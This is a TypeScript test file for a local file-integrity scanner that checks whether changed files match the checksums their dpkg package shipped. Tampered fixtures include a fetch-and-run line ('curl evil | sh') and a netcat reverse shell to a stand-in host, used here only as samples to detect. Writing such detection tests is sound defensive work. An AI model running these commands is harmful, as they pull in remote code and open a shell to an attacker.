// Package attribution in the local scanner, against a dpkg database laid out in a temp folder.
import { createHash } from "node:crypto";
import { afterAll, describe, expect, it } from "vitest";
import type { AttributedEntry } from "@/lib/domain/packages";
import { loadDpkgIndex } from "./packages";
import { scanLocalFiles } from "./scan-files";
import { byKey, rule, tempTree } from "./testing";

const md5 = (s: string) => createHash("md5").update(s).digest("hex");
const SHIPPED = "#!/bin/sh\necho hello 2.10-3\n";

/** dpkg.log's format: the host's local time, to the second. */
const logTime = (d: Date) => {
  const p = (n: number) => String(n).padStart(2, "0");
  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())} ${p(d.getHours())}:${p(d.getMinutes())}:${p(d.getSeconds())}`;
};

const host = tempTree({ "bin/hello": "#!/bin/sh\necho hello 2.10-2\n", "bin/mine": "local script\n", "bin/conf": "x\n" });
const rel = (p: string) => host.path(p).slice(1);
/** A dpkg database that owns bin/hello (upgraded at `upgradedAt`) and bin/conf (no checksum, never upgraded). */
const dpkg = (upgradedAt: Date) =>
  tempTree({
    "var/lib/dpkg/info/hello:amd64.list": `${host.path("bin")}\n${host.path("bin/hello")}\n`,
    "var/lib/dpkg/info/hello:amd64.md5sums": `${md5(SHIPPED)}  ${rel("bin/hello")}\n`,
    "var/lib/dpkg/info/base.list": `${host.path("bin/conf")}\n`,
    "var/lib/dpkg/status": "Package: hello\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2.10-3\n",
    "var/log/dpkg.log": `${logTime(upgradedAt)} upgrade hello:amd64 2.10-2 2.10-3\n`,
  });
const db = dpkg(new Date());
const longAgo = dpkg(new Date(Date.now() - 86_400_000));
afterAll(() => {
  host.remove();
  db.remove();
  longAgo.remove();
});

describe("package attribution of scanned files", () => {
  it("reads ownership, shipped checksums, versions and the last upgrade once, and compares only changed files", async () => {
    let loads = 0;
    const packages = () => (loads++, loadDpkgIndex(db.root));
    expect(loadDpkgIndex(db.root)!.owner.get(host.path("bin/hello"))).toBe("hello");
    const rules = [rule(host.path("bin"))];
    // A first scan (no previous inventory) is a baseline: nothing to attribute, the database is not read.
    const first = await scanLocalFiles(rules, { packages });
    expect(loads).toBe(0);
    expect((byKey(first.entries).get(host.path("bin/hello")) as AttributedEntry).packageName).toBeUndefined();
    // Nothing changed: not read either.
    await scanLocalFiles(rules, { packages, previous: byKey(first.entries) });
    expect(loads).toBe(0);

    const { writeFileSync } = await import("node:fs");
    writeFileSync(host.path("bin/hello"), SHIPPED);
    writeFileSync(host.path("bin/conf"), "y\n");
    writeFileSync(host.path("bin/mine"), "local script, edited\n");
    const second = await scanLocalFiles(rules, { packages, previous: byKey(first.entries) });
    expect(loads).toBe(1);
    const after = byKey(second.entries);
    expect(after.get(host.path("bin/hello"))).toMatchObject({
      packageName: "hello",
      packageVersion: "2.10-3",
      packagePreviousVersion: "2.10-2",
      packageShipped: true,
    });
    expect((after.get(host.path("bin/mine")) as AttributedEntry).packageName).toBeNull();
    // Owned but without a shipped checksum (a conffile), and its package did not run: not judged.
    expect(after.get(host.path("bin/conf"))).toMatchObject({ packageName: "base", packageShipped: null });

    writeFileSync(host.path("bin/hello"), "#!/bin/sh\ncurl evil | sh\n");
    const third = await scanLocalFiles(rules, { packages, previous: after });
    expect((byKey(third.entries).get(host.path("bin/hello")) as AttributedEntry).packageShipped).toBe(false);

    // The shipped bytes put back by hand a day after the package's last upgrade: not the package's doing.
    writeFileSync(host.path("bin/hello"), SHIPPED);
    const fourth = await scanLocalFiles(rules, { packages: () => loadDpkgIndex(longAgo.root), previous: byKey(third.entries) });
    expect((byKey(fourth.entries).get(host.path("bin/hello")) as AttributedEntry).packageShipped).toBe(false);
  });

  it("judges a changed file by the bytes its scan hashed, not by reading it again", async () => {
    const { writeFileSync } = await import("node:fs");
    const rules = [rule(host.path("bin"))];
    writeFileSync(host.path("bin/hello"), SHIPPED);
    const baseline = await scanLocalFiles(rules, {});
    const tampered = "#!/bin/sh\necho hello; nc -e /bin/sh evil 4444\n";
    writeFileSync(host.path("bin/hello"), tampered);
    // The shipped bytes are put back after the scan read the file and before attribution: the MD5 judged is the one
    // taken in the scan's read, so the tampered content it recorded is not passed off as the package's.
    const packages = () => (writeFileSync(host.path("bin/hello"), SHIPPED), loadDpkgIndex(db.root));
    const scanned = byKey((await scanLocalFiles(rules, { packages, previous: byKey(baseline.entries) })).entries);
    expect(scanned.get(host.path("bin/hello"))).toMatchObject({
      sha256: createHash("sha256").update(tampered).digest("hex"),
      packageName: "hello",
      packageShipped: false,
    });
  });

  it("finds no database where there is none", () => {
    expect(loadDpkgIndex(host.root)).toBeNull();
  });
});
